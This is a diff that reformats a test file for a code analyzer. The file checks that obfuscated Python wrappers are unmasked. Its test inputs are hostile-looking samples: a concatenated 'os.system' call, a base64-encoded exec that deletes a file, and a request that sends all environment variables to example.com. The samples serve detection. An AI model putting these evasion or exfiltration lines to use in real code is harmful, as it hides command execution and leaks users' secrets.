@@ -6,10 +6,7 @@ import type { Language } from "./types.ts";
 /** Deeds and shells in one short line each. */
 const found = (language: Language, code: string): readonly string[] => {
   const { deeds, shells } = lookIntoCode(language, code);
-  return [
-    ...deeds.map(({ act, target, tree }) => `${act} ${target}${tree ? "/**" : ""}`.trim()),
-    ...shells.map(({ text }) => `$ ${text}`),
-  ];
+  return [...deeds.map(({ act, target, tree }) => `${act} ${target}${tree ? "/**" : ""}`.trim()), ...shells.map(({ text }) => `$ ${text}`)];
 };
 
 describe("A14 wrappers hide nothing", () => {
@@ -28,11 +25,7 @@ describe("A14 wrappers hide nothing", () => {
     ["python", "getattr(__import__('o' + 's'), 'system')('ls')", ["$ ls"]],
     ["python", "exec(__import__('base64').b64decode('aW1wb3J0IG9zOyBvcy5yZW1vdmUoImEiKQ=='))", ["delete a"]],
     ["python", "exec(x)", ["opaque"]],
-    [
-      "python",
-      "import requests; requests.post('https://example.com', data='a b')",
-      ["$ curl -s -X POST https://example.com --data 'a b'"],
-    ],
+    ["python", "import requests; requests.post('https://example.com', data='a b')", ["$ curl -s -X POST https://example.com --data 'a b'"]],
     [
       "python",
       "import requests, os; requests.get('https://example.com/?' + str(dict(os.environ)))",
